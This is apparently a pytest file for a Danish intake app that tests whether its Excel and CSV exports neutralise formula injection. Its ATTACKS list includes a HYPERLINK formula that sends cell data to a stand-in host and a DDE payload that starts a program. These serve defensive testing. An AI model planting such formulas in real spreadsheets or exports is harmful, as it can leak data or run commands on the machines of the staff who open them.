"""Exports are inert data: no formulas, no links but intake's own, no cut texts (workbook, CSV).

A workbook's text cell is never evaluated, so it keeps its text exactly (no visible ' that
staff copy along) and gets the quote-prefix style where an edit could turn it into a formula
or number. CSV is parsed by Excel on opening, so there a formula-like text gets a leading '.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime

import openpyxl
import pytest

from intake.clock import LOCAL
from intake.exports.cells import Column, Link
from intake.exports.csv import csv_chunks
from intake.exports.service import form_csv, write_form_workbook
from intake.exports.xlsx import WORKBOOK_OPTIONS, WorkbookWriter
from intake.formdefs.registry import current_registry
from tests.exports.factory import FULL_ANSWERS, add_signup

ATTACKS = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?d="&A1,"Klik her")',
    "+45 12 34 56 78",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def excel_text(value: str) -> str:
    """Excel writes control characters as _xHHHH_; Excel reads them back, openpyxl does not."""
    return re.sub(r"_x([0-9A-F]{4})_", lambda m: chr(int(m.group(1), 16)), value)


def sheet_xml(path) -> dict[str, str]:
    with zipfile.ZipFile(path) as archive:
        return {name: archive.read(name).decode("utf-8") for name in archive.namelist()
                if name.startswith("xl/worksheets/") and name.endswith(".xml")}


def assert_inert(path) -> None:
    xml = sheet_xml(path)
    assert xml
    for name, text in xml.items():
        assert "<f>" not in text and "<f " not in text, name
        assert "<hyperlink" not in text, name
    with zipfile.ZipFile(path) as archive:
        assert not [n for n in archive.namelist() if "externalLink" in n]


def test_workbook_options_switch_off_every_conversion():
    assert WORKBOOK_OPTIONS == {"constant_memory": True, "strings_to_formulas": False,
                                "strings_to_urls": False, "strings_to_numbers": False}


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_like_answers_stay_as_typed_with_the_quote_prefix(export_app, tmp_path, attack):
    answers = FULL_ANSWERS | {
        "navn": attack,
        "noter": "https://evil.example/login",
        "cvr": "00001234",
        "deltagere": [{"navn": attack, "email": None, "foedt": None}],
    }
    add_signup(export_app, "eksport", answers)
    path = tmp_path / "angreb.xlsx"
    with export_app.app_context():
        write_form_workbook(current_registry().get("eksport"), str(path))
    assert_inert(path)
    book = openpyxl.load_workbook(path)
    main, people = book["Tilmeldinger"], book["Deltagere"]
    headers = [c.value for c in main[1]]
    name = main.cell(2, headers.index("Navn") + 1)
    assert excel_text(name.value) == attack and name.data_type == "s" and name.quotePrefix
    assert excel_text(people["C2"].value) == attack and people["C2"].quotePrefix
    # A link is plain text, and digits in a text field stay text.
    assert main.cell(2, headers.index("Bemærkninger") + 1).value == "https://evil.example/login"
    assert not main.cell(2, headers.index("Bemærkninger") + 1).quotePrefix
    cvr = main.cell(2, headers.index("CVR-nummer") + 1)
    # An edit in Excel keeps the zeros.
    assert cvr.value == "00001234" and cvr.data_type == "s" and cvr.quotePrefix


@pytest.mark.parametrize(("field", "typed", "shown"), [
    ("telefon", "+46701234567", "+46 70 123 45 67"),  # the example
    ("noter", "- første punkt\n- andet", "- første punkt\n- andet"),  # the example
    ("navn", "'citat'", "'citat'"),  # a leading ' that Excel would otherwise swallow on an edit
    ("postnummer", "0800", "0800"),
    ("navn", "@firma", "@firma"),
])
def test_no_visible_apostrophe_in_the_workbook(export_app, tmp_path, field, typed, shown):
    add_signup(export_app, "eksport", FULL_ANSWERS | {field: typed})
    path = tmp_path / "apostrof.xlsx"
    with export_app.app_context():
        write_form_workbook(current_registry().get("eksport"), str(path))
    assert_inert(path)
    sheet = openpyxl.load_workbook(path)["Tilmeldinger"]
    headers = [c.value for c in sheet[1]]
    label = {"telefon": "Telefon", "noter": "Bemærkninger", "navn": "Navn",
             "postnummer": "Postnummer"}[field]
    cell = sheet.cell(2, headers.index(label) + 1)
    assert cell.value == shown and cell.data_type == "s" and cell.quotePrefix
    plain = sheet.cell(2, headers.index("E-mail") + 1)
    assert plain.value == "soeren@example.dk" and not plain.quotePrefix


def test_headers_and_sheet_titles_are_protected_too(tmp_path):
    path = tmp_path / "headers.xlsx"
    with WorkbookWriter(str(path)) as book:
        book.write_sheet(
            "=Ark [1]: *?/\\",
            [Column("=SUM(A2:A9)"), Column("@navn"), Column("Almindelig")],
            [["-1", 5, "+x"], ["=A1", None, "ok"]],
        )
    assert_inert(path)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    assert sheet.title == "=Ark  1"  # Excel's forbidden characters []:*?/\ replaced
    assert [c.value for c in sheet[1]] == ["=SUM(A2:A9)", "@navn", "Almindelig"]
    assert [c.quotePrefix for c in sheet[1]] == [True, True, False]
    assert all(c.font.b for c in sheet[1])  # the header style is kept with the quote prefix
    assert [c.value for c in sheet[2]] == ["-1", 5, "+x"]
    assert [c.value for c in sheet[3]] == ["=A1", None, "ok"]
    assert [(c.data_type, c.quotePrefix) for c in sheet[3][::2]] == [("s", True), ("s", False)]


def test_typed_cells_from_the_generic_writer(tmp_path):
    path = tmp_path / "typer.xlsx"
    aware = datetime(2026, 1, 15, 11, 0, tzinfo=LOCAL)
    with WorkbookWriter(str(path)) as book:
        book.write_sheet(
            "Typer",
            [Column("a"), Column("b"), Column("c"), Column("d"), Column("e"), Column("f")],
            [[aware, date(2026, 2, 3), 1.5, True, "0042", "x\x01y"]],
        )
    row = [c for c in openpyxl.load_workbook(path)["Typer"][2]]
    assert row[0].value == datetime(2026, 1, 15, 11, 0) and row[0].is_date
    assert row[1].value == datetime(2026, 2, 3) and row[1].number_format == "dd-mm-yyyy"
    assert row[2].value == 1.5
    assert row[3].value == 1
    assert row[4].value == "0042" and row[4].data_type == "s"
    assert excel_text(row[5].value) == "x\x01y"  # a control character survives, escaped in the XML


def test_only_intakes_own_links_are_hyperlinks_and_excels_limits_fall_back_to_text(
        tmp_path, monkeypatch):
    """A typed address stays text; a cells.Link (a staff file download) is a hyperlink showing
    its text, until a sheet has Excel's 65,530 links or a link is over 2,079 characters."""
    monkeypatch.setattr("intake.exports.xlsx.MAX_LINKS", 2)  # the real limit needs 65,530 rows
    path = tmp_path / "links.xlsx"
    url = "https://intake.example.dk/staff/filer/"
    long_url = url + "x" * 2_100
    with WorkbookWriter(str(path)) as book:
        book.write_sheet("Links", [Column("typed"), Column("link")], [
            ["https://evil.example/", Link(url + "1", "plan.pdf")],
            ["=HYPERLINK(\"x\")", Link(long_url, "lang.pdf")],
            [None, Link(url + "2", "=2+2")],
            [None, Link(url + "3", "tredje.pdf")],
        ])
    sheet = openpyxl.load_workbook(path)["Links"]
    typed, first = sheet["A2"], sheet["B2"]
    assert typed.value == "https://evil.example/" and typed.hyperlink is None
    assert first.value == "plan.pdf" and first.hyperlink.target == url + "1"
    assert sheet["B3"].value == long_url and sheet["B3"].hyperlink is None
    assert sheet["B4"].value == "=2+2" and sheet["B4"].data_type == "s"
    assert sheet["B4"].hyperlink.target == url + "2"
    assert sheet["B5"].value == url + "3" and sheet["B5"].hyperlink is None  # the third link
    chunks = "".join(csv_chunks([Column("link")], [[Link(url + "1", "plan.pdf")]]))
    assert chunks.splitlines()[1] == url + "1"


def test_a_text_of_exactly_32767_characters_is_kept_whole(export_app, tmp_path):
    text = "æ" * 32_767
    add_signup(export_app, "eksport", FULL_ANSWERS | {"noter": text})
    path = tmp_path / "max.xlsx"
    with export_app.app_context():
        write_form_workbook(current_registry().get("eksport"), str(path))
    book = openpyxl.load_workbook(path)
    headers = [c.value for c in book["Tilmeldinger"][1]]
    assert book["Tilmeldinger"].cell(2, headers.index("Bemærkninger") + 1).value == text
    assert "Lange tekster" not in book.sheetnames


def test_a_longer_text_is_never_cut_silently(export_app, tmp_path):
    # 40,000 characters with emoji (two UTF-16 units each, Excel's unit) and a formula
    # character right where a part would begin.
    text = ("Lang tekst 😀 " * 2000)[:15_999] + "=" + "ø" * 24_000
    reference = add_signup(export_app, "eksport", FULL_ANSWERS | {"noter": text})
    path = tmp_path / "lang.xlsx"
    with export_app.app_context():
        write_form_workbook(current_registry().get("eksport"), str(path))
    assert_inert(path)
    book = openpyxl.load_workbook(path)
    headers = [c.value for c in book["Tilmeldinger"][1]]
    column = headers.index("Bemærkninger") + 1
    cell = book["Tilmeldinger"].cell(2, column)
    assert len(cell.value.encode("utf-16-le")) // 2 <= 32_767
    assert "Teksten er afkortet" in cell.value and "Lange tekster" in cell.value
    assert text.startswith(cell.value.split(" […] ")[0])
    overflow = list(book["Lange tekster"].iter_rows(values_only=True))
    assert overflow[0] == ("Ark", "Celle", "Del", "Tekst")
    parts = overflow[1:]
    assert {(p[0], p[1]) for p in parts} == {("Tilmeldinger", cell.coordinate)}
    assert [p[2] for p in parts] == list(range(1, len(parts) + 1))
    assert "".join(p[3] for p in parts) == text  # the whole text, in order
    assert book["Tilmeldinger"]["A2"].value == reference


def test_csv_is_utf8_with_bom_rfc4180_and_protected(export_app):
    add_signup(export_app, "eksport", FULL_ANSWERS | {
        "navn": "Æble, \"Øst\" & Åen", "noter": "=1+1\nlinje 2", "cvr": "01234567",
    })
    with export_app.app_context():
        data = "".join(form_csv(current_registry().get("eksport"))).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    assert b"\r\n" in data and "æ".encode() in data
    text = data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header, row = rows[0], rows[1]
    values = dict(zip(header, row, strict=True))
    assert values["Navn"] == 'Æble, "Øst" & Åen'
    assert values["Bemærkninger"] == "'=1+1\nlinje 2"  # CSV keeps the OWASP guard
    assert values["CVR-nummer"] == "01234567"
    assert values["Postnummer"] == "0800"
    assert values["Antal medarbejdere"] == "12"
    assert values["Startdato"] == "2024-02-29"
    assert values["Interesser: Handel"] == "1"
    assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d", values["Tilmeldt"])
    assert '"Æble, ""Øst"" & Åen"' in text  # quotes doubled, field quoted (RFC 4180)


def test_csv_of_the_repeat_sheet(export_app):
    reference = add_signup(export_app, "eksport", FULL_ANSWERS)
    with export_app.app_context():
        text = "".join(form_csv(current_registry().get("eksport"), sheet="repeat:deltagere"))
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))
    assert rows == [["Reference", "Nr.", "Navn", "E-mail", "Fødselsdato"],
                    [reference, "1", "Anna Ås", "anna@example.dk", "1990-01-02"],
                    [reference, "2", "Bo Bæk", "", ""]]


def test_csv_for_danish_excel_uses_semicolons_and_decimal_commas():
    columns = [Column("Navn"), Column("Beløb", "number"), Column("Antal", "number"),
               Column("Noter")]
    rows = [["Æble; Øst", 1.5, 12, "=1+1"], ["-5 kr.", -0.25, None, 'sagde "hej"']]
    data = "".join(csv_chunks(columns, rows, dialect="semikolon")).encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbfNavn;")  # BOM first: no "sep=" line before it
    parsed = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert parsed == [["Navn", "Beløb", "Antal", "Noter"],
                      ["Æble; Øst", "1,5", "12", "'=1+1"],
                      ["'-5 kr.", "-0,25", "", 'sagde "hej"']]
    comma = "".join(csv_chunks(columns, rows, dialect="komma"))
    parsed = list(csv.reader(io.StringIO(comma.lstrip("\ufeff"), newline="")))
    assert parsed[1] == ["Æble; Øst", "1.5", "12", "'=1+1"]
    with pytest.raises(ValueError):
        list(csv_chunks(columns, rows, dialect="tab"))


def test_csv_of_a_form_in_both_dialects(export_app):
    reference = add_signup(export_app, "eksport", FULL_ANSWERS | {"navn": "Hansen; Jensen"})
    with export_app.app_context():
        form = current_registry().get("eksport")
        semicolon = "".join(form_csv(form, dialect="semikolon")).lstrip("\ufeff")
        comma = "".join(form_csv(form, dialect="komma")).lstrip("\ufeff")
    for text, delimiter in ((semicolon, ";"), (comma, ",")):
        header, row = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))
        values = dict(zip(header, row, strict=True))
        assert values["Reference"] == reference and values["Navn"] == "Hansen; Jensen"
        assert values["Antal medarbejdere"] == "12" and values["CVR-nummer"] == "01234567"
    assert semicolon.startswith("Reference;Tilmeldt;Status;Navn")
